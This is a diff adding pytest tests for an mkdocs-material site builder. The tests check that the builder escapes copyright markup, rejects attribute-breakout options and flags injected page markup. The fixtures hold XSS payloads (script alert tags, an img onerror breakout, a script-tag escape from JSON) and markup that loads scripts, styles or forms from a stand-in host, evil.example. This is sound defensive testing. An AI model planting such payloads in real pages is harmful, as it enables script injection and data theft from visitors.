@@ -6,11 +6,16 @@ copy of the shipped content; helpers come from the fourth round's tests.
 from __future__ import annotations
 
 import os
+import re
+import shutil
 import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+
 from conftest import copy_project, run_wugu
+from test_harden_attack4 import _config, _mobile, _problems
 
 #: Holds an exclusive lock on each path it is given until its standard input closes (as another build, or any
 #: local user running ``flock``, would).
@@ -94,3 +99,137 @@ def test_an_editions_list_cannot_name_a_folder_outside_its_own(tmp_path):
     assert "绝对路径" in problems[0] and all("清单文件所在的目录" in line for line in problems[1:])
     assert "Traceback" not in result.stderr
     assert not any(p.suffix == ".pdf" for p in out.rglob("*")) and not (out / "proj").exists()
+
+
+# ---- NEW-6: mkdocs-material's own code-block setup and copyright example; NEW-5: what the theme really writes --
+
+#: mkdocs-material's "Code blocks" setup page, as a maintainer would paste it.
+_MATERIAL_CODE = [{"pymdownx.highlight": {"anchor_linenums": True, "line_spans": "__span", "pygments_lang_class": True,
+                                          "linenums": True, "auto_title": True, "linenums_style": "pymdownx-inline"}},
+                  "pymdownx.inlinehilite", "pymdownx.superfences"]
+_COPYRIGHT = "Copyright &copy; 2026 清河县 <script>alert(1)</script> &lt;script&gt;alert(2)&lt;/script&gt;"
+
+
+@pytest.fixture(scope="module")
+def material_site(tmp_path_factory) -> tuple[Path, Path]:
+    """A copy of the shipped project set up as mkdocs-material's pages show (code blocks, copyright with
+    ``&copy;``, a light/dark toggle, a site address — canonical links), with a page of code; built once:
+    (project, site)."""
+    base = tmp_path_factory.mktemp("material")
+    project = copy_project(base / "p")
+
+    def change(data: dict) -> None:
+        data["markdown_extensions"] += _MATERIAL_CODE
+        data["copyright"] = _COPYRIGHT
+        data["site_url"] = "https://qinghe.example.org/handbook/"
+        data["theme"]["palette"] = [{"scheme": "default", "toggle": {"icon": "material/brightness-7", "name": "深色"}},
+                                    {"scheme": "slate", "toggle": {"icon": "material/brightness-4", "name": "浅色"}}]
+    _config(project, change)
+    (project / "site" / "code.md").write_text("# 代码\n\n``` python\nprint('你好')\nx = 1\n```\n\n"
+                                              "行内 `#!python x = 1`。\n", encoding="utf-8")
+    assert _problems(project) == []
+    out = base / "site"
+    result = run_wugu("build", str(project), "--no-pdf", "--out", str(out))
+    assert result.returncode == 0, result.stdout + result.stderr
+    return project, out
+
+
+def test_material_code_block_options_pass_and_work(material_site):
+    _project, out = material_site
+    page = (out / "code.html").read_text(encoding="utf-8")
+    assert '<span id="__span-0-1">' in page and 'href="#__codelineno-0-1"' in page  # line_spans, anchor_linenums
+    assert 'class="language-python highlight"' in page or "language-python" in page  # pygments_lang_class
+
+
+@pytest.mark.parametrize("options", [{"line_spans": 'x"><img src=x onerror=alert(1)>'}, {"line_anchors": "a b"},
+                                     {"default_lang": "<b>"}, {"linenums_special": "3"}, {"pygments_style": "x"}])
+def test_highlight_options_that_could_break_out_of_an_attribute_are_still_e520(tmp_path, options):
+    project = copy_project(tmp_path / "p")
+    _config(project, lambda data: data["markdown_extensions"].append({"pymdownx.highlight": options}))
+    assert [p["code"] for p in _problems(project)] == ["E520"]
+
+
+def test_copyright_character_references_are_read_and_markup_stays_text(material_site):
+    _project, out = material_site
+    for name in ("index.html", "code.html", "regulations/R01.html"):
+        page = (out / name).read_text(encoding="utf-8")
+        footer = page[page.index('class="md-copyright__highlight"'):]
+        footer = footer[:footer.index("</div>")]
+        assert "Copyright © 2026 清河县" in footer, footer
+        assert "&amp;copy;" not in footer and "<script" not in footer
+        assert footer.count("&lt;script&gt;alert(") == 2, footer  # both the tag and the escaped tag show as text
+
+
+def test_a_number_hidden_in_copyright_character_references_is_found(tmp_path):
+    project = copy_project(tmp_path / "p")
+    hidden = "".join(f"&#{ord(c)};" for c in _mobile())
+    _config(project, lambda data: data.update(copyright=f"联系 {hidden}"))
+    found = [p for p in _problems(project) if p["code"] == "E402"]
+    assert [(p["path"].endswith("mkdocs.yml"), p["line"] > 0) for p in found] == [(True, True)], found
+    line = (project / "mkdocs.yml").read_text(encoding="utf-8").splitlines()[found[0]["line"] - 1]
+    assert line.startswith("copyright:") and _mobile() not in found[0]["message"]
+
+
+def test_every_page_of_the_material_setup_passes_the_last_scan(material_site):
+    """Shipped site, fill pages, self-test, highlight markup, canonical links, the palette toggle's script: all
+    written by the theme or wugu, nothing reported (the build above ran the same scan)."""
+    from wugu.validate.pages import unsafe_built
+
+    _project, out = material_site
+    pages = sorted(out.rglob("*.html"))
+    assert len(pages) > 60 and any("wg-fill__schema" in p.read_text(encoding="utf-8") for p in pages)
+    assert '<link rel="canonical" href="https://qinghe.example.org/' in (out / "index.html").read_text(encoding="utf-8")
+    assert {str(p.relative_to(out)): unsafe_built(p.read_text(encoding="utf-8")) for p in pages
+            if unsafe_built(p.read_text(encoding="utf-8"))} == {}
+
+
+#: Chrome-like markup an injection could produce, each in the head or the body of a real built page.
+_INJECTED = {
+    "inline script": "<script>alert(1)</script>",
+    "upper-case inline script": "<SCRIPT>alert(1)</SCRIPT>",
+    "module script": '<script type="module">import("https://evil.example/x.js")</script>',
+    "javascript type": "<script type=text/javascript>fetch('https://evil.example/')</script>",
+    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    "meta referrer": '<meta name="referrer" content="unsafe-url">',
+    "outside stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
+    "protocol-relative icon": '<link rel="icon" href="//evil.example/x.ico">',
+    "backslash stylesheet": '<link rel="stylesheet" href="/\\evil.example/x.css">',
+    "preload": '<link rel="preload" href="assets/x.js" as="script">',
+    "style import": "<style>@import url(https://evil.example/x.css);</style>",
+    "style escape": "<style>body{background:u\\rl(https://evil.example/x.png)}</style>",
+    "style attribute": '<div style="background:url(//evil.example/x.png)">x</div>',
+    "form action": '<form action="https://evil.example/collect"><input name=q></form>',
+}
+
+
+@pytest.mark.parametrize("name", sorted(_INJECTED))
+def test_chrome_markup_the_theme_does_not_write_is_e530(material_site, tmp_path, name):
+    from wugu.errors import WuguError
+    from wugu.render.sitebuild import _refuse_active_pages
+    from wugu.validate.pages import unsafe_built
+
+    _project, out = material_site
+    real = (out / "regulations" / "R01.html").read_text(encoding="utf-8")
+    site = tmp_path / "site"
+    (site / "regulations").mkdir(parents=True)
+    shutil.copy(out / "index.html", site / "index.html")
+    at = real.index("</head>") if "<meta" in _INJECTED[name] or "<link" in _INJECTED[name] else real.index("</article>")
+    (site / "regulations" / "R01.html").write_text(real[:at] + _INJECTED[name] + real[at:], encoding="utf-8")
+    assert unsafe_built(real) == []
+    with pytest.raises(WuguError) as caught:
+        _refuse_active_pages(site)
+    assert [(p.code, p.path) for p in caught.value.problems] == [("E530", "regulations/R01.html")]
+
+
+def test_a_theme_script_with_something_added_is_not_the_theme_script(material_site):
+    from wugu.validate.pages import unsafe_built
+
+    _project, out = material_site
+    page = (out / "index.html").read_text(encoding="utf-8")
+    scope = re.search(r"<script>(__md_scope=.*?)</script>", page).group(1)
+    assert unsafe_built(page) == []
+    assert unsafe_built(page.replace(scope, scope + ";alert(1)"))
+    assert unsafe_built(page.replace('new URL(".",location)', 'new URL("."+alert(1)+"",location)'))
+    data = '<script id="__config" type="application/json">{"a": "<b onclick=x>"}</script>'
+    assert unsafe_built(data) == []  # data, not run, and not markup
+    assert unsafe_built(data.replace("<b onclick=x>", "</script><script>alert(1)</script>"))  # ends the data
